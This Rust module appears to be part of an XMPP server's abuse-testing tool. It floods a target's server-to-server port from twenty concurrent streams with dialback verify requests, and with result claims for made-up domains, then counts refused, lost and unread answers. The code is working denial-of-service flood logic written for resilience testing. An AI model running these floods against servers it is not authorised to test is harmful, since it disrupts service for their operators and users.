//! The server-to-server attacks of `abuse`: what a hostile peer can do on
//! the s2s port with nothing proved, over STARTTLS (no certificate of its
//! own). Raw XML over rustls, so that nothing of ours filters what is
//! sent.

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::thread;
use std::time::{Duration, Instant};

use rustls::{ClientConnection, StreamOwned};

use super::{Outcome, Target, connect_from};

type Tls = StreamOwned<ClientConnection, TcpStream>;

/// Streams each attack keeps going at once.
const STREAMS: usize = 20;

/// A dialback key: 64 hex digits, as an HMAC-SHA256 is written.
const KEY: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

fn header(from: &str, to: &str) -> String {
    format!(
        "<?xml version='1.0'?><stream:stream xmlns='jabber:server' \
         xmlns:db='jabber:server:dialback' xmlns:stream='http://etherx.jabber.org/streams' \
         from='{from}' to='{to}' version='1.0'>"
    )
}

/// Reads until `pattern` has come (or the peer ends the stream).
fn read_until(stream: &mut impl Read, pattern: &[u8]) -> io::Result<()> {
    let mut seen = Vec::new();
    let mut buf = [0u8; 4096];
    while !seen.windows(pattern.len()).any(|w| w == pattern) {
        let n = stream.read(&mut buf)?;
        if n == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        seen.extend_from_slice(&buf[..n]);
    }
    Ok(())
}

/// A server-to-server stream to the target, claiming to be `from`:
/// header, STARTTLS, TLS, header again, features read.
fn open(target: &Target, from: &str) -> Result<Tls, String> {
    let s2s = target.s2s.ok_or("the s2s attacks need --s2s")?;
    let fail = |e: io::Error| format!("s2s stream: {e}");
    let mut tcp = connect_from(target.from, s2s).map_err(fail)?;
    tcp.set_read_timeout(Some(Duration::from_secs(10)))
        .map_err(fail)?;
    let hello = header(from, &target.domain);
    tcp.write_all(hello.as_bytes()).map_err(fail)?;
    tcp.write_all(b"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
        .map_err(fail)?;
    read_until(&mut tcp, b"<proceed").map_err(fail)?;
    let conn = target.tls.connect().map_err(|e| e.to_string())?;
    let mut tls = StreamOwned::new(conn, tcp);
    tls.write_all(hello.as_bytes()).map_err(fail)?;
    read_until(&mut tls, b"</stream:features>").map_err(fail)?;
    Ok(tls)
}

/// Counts the answers (`<db:verify` or `<db:result` elements) in what
/// the target sends, across reads.
struct Answers {
    pattern: &'static [u8],
    tail: Vec<u8>,
    count: u64,
    /// The target ended the stream.
    ended: bool,
}

impl Answers {
    fn new(pattern: &'static [u8]) -> Self {
        Answers {
            pattern,
            tail: Vec::new(),
            count: 0,
            ended: false,
        }
    }

    /// Reads what is there within `wait`.
    fn read(&mut self, tls: &mut Tls, wait: Duration) {
        if self.ended {
            return;
        }
        let _ = tls.sock.set_read_timeout(Some(wait));
        let mut buf = vec![0u8; 64 * 1024];
        match tls.read(&mut buf) {
            Ok(0) => self.ended = true,
            Ok(n) => {
                let mut data = std::mem::take(&mut self.tail);
                data.extend_from_slice(&buf[..n]);
                let p = self.pattern;
                self.count += data.windows(p.len()).filter(|w| *w == p).count() as u64;
                if data
                    .windows(13)
                    .any(|w| w == b"</stream:str" as &[u8] || w == b"<stream:error")
                {
                    self.ended = true;
                }
                let keep = data.len().saturating_sub(p.len() - 1);
                self.tail = data[keep..].to_vec();
            }
            Err(e)
                if matches!(
                    e.kind(),
                    io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
                ) => {}
            Err(_) => self.ended = true,
        }
    }
}

/// Runs `attack` on [`STREAMS`] threads and adds up what they report.
fn on_threads(
    target: &Target,
    attack: impl Fn(&Target, usize) -> Result<Outcome, String> + Sync,
) -> Result<Outcome, String> {
    let results: Vec<Result<Outcome, String>> = thread::scope(|scope| {
        let workers: Vec<_> = (0..STREAMS)
            .map(|i| {
                let attack = &attack;
                scope.spawn(move || attack(target, i))
            })
            .collect();
        workers
            .into_iter()
            .map(|w| {
                w.join()
                    .unwrap_or_else(|_| Err("an attacker panicked".into()))
            })
            .collect()
    });
    let mut total = Outcome::default();
    for outcome in results {
        let outcome = outcome?;
        total.attempts += outcome.attempts;
        total.errors += outcome.errors;
        total.lost += outcome.lost;
        total.unread += outcome.unread;
    }
    Ok(total)
}

/// Twenty streams ask `db:verify` questions (answered from the secret,
/// XEP-0185) as fast as they can write, for `duration`, before proving
/// anything. `errors_returned` counts the answers; `unread` the questions
/// not answered when the attack ended, which the target's pacing (it
/// stops reading a stream past its rate) leaves waiting in the socket.
pub(crate) fn verify_flood(target: &Target, duration: Duration) -> Result<Outcome, String> {
    on_threads(target, |target, i| {
        let asker = format!("asker{i}.invalid");
        let mut tls = open(target, &asker)?;
        let mut answers = Answers::new(b"<db:verify");
        let mut sent = 0u64;
        let started = Instant::now();
        while started.elapsed() < duration && !answers.ended {
            let mut batch = String::new();
            for _ in 0..64 {
                batch.push_str(&format!(
                    "<db:verify from='{asker}' to='{}' id='s{sent}'>{KEY}</db:verify>",
                    target.domain
                ));
                sent += 1;
            }
            if tls.write_all(batch.as_bytes()).is_err() {
                break;
            }
            answers.read(&mut tls, Duration::from_millis(1));
        }
        let deadline = Instant::now() + Duration::from_secs(5);
        while answers.count < sent && !answers.ended && Instant::now() < deadline {
            answers.read(&mut tls, Duration::from_millis(100));
        }
        let unread = if answers.ended {
            0
        } else {
            sent - answers.count.min(sent)
        };
        Ok(Outcome {
            attempts: sent,
            errors: answers.count,
            unread,
            ..Outcome::default()
        })
    })
}

/// Streams claim made-up domains by dialback (`db:result`, 20 per
/// stream, past the 16 pairs a stream may prove), one stream after
/// another on each of twenty threads for `duration`: every claim costs
/// the target a key check with a server that is not there. Each claim
/// must be answered (refused); `lost` counts those that were not.
pub(crate) fn claim_flood(target: &Target, duration: Duration) -> Result<Outcome, String> {
    const CLAIMS: u64 = 20;
    let started = Instant::now();
    on_threads(target, |target, i| {
        let mut total = Outcome::default();
        let mut round = 0;
        while started.elapsed() < duration {
            round += 1;
            let mut tls = open(target, &format!("claimer{i}-{round}.invalid"))?;
            let mut claims = String::new();
            for k in 0..CLAIMS {
                claims.push_str(&format!(
                    "<db:result from='claimer{i}-{round}-{k}.invalid' to='{}'>{KEY}</db:result>",
                    target.domain
                ));
            }
            tls.write_all(claims.as_bytes())
                .map_err(|e| format!("claims: {e}"))?;
            let mut answers = Answers::new(b"<db:result");
            let deadline = Instant::now() + Duration::from_secs(30);
            while answers.count < CLAIMS && !answers.ended && Instant::now() < deadline {
                answers.read(&mut tls, Duration::from_millis(100));
            }
            total.attempts += CLAIMS;
            total.errors += answers.count.min(CLAIMS);
            if !answers.ended {
                total.lost += CLAIMS - answers.count.min(CLAIMS);
            }
        }
        Ok(total)
    })
}
